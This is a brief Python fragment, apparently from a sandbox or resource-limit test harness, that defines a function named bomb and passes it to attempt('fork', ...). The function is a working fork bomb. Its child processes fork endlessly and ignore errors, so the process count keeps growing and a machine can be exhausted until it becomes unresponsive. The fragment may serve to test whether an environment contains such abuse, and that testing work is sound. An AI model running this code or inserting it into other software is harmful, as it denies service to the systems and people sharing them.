def bomb():
    n = 0
    while True:
        if os.fork() == 0:
            while True:
                try: os.fork()
                except OSError: pass
        n += 1
        if n > 5000: return n
attempt("fork", bomb)
